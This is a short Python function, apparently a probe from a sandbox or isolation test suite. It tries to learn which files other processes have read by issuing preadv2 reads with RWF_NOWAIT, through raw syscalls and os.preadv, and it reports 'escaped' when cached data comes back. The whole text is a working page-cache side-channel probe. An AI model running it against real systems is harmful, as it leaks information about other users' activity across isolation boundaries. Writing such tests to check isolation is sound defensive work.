# Attempts: learn what others read, by reads that fail where they would have to wait for the disk (RWF_NOWAIT).

def attack(world):
    import ctypes, os
    libc = ctypes.CDLL(None, use_errno=True)
    libc.syscall.restype = ctypes.c_long
    room = ctypes.create_string_buffer(16)
    span = (ctypes.c_uint64 * 2)(ctypes.addressof(room), 16)
    told = []
    for path in (os.__file__, os.path.join(world["project"], "helper.py")):
        file = os.open(path, os.O_RDONLY)
        for number in (327, 286):
            if libc.syscall(number, file, span, 1, 0, 0, 8) > 0:
                told.append(path)
        try:
            if os.preadv(file, [bytearray(16)], 0, 8):
                told.append(path)
        except (OSError, AttributeError):
            pass
    if told:
        return "escaped", told
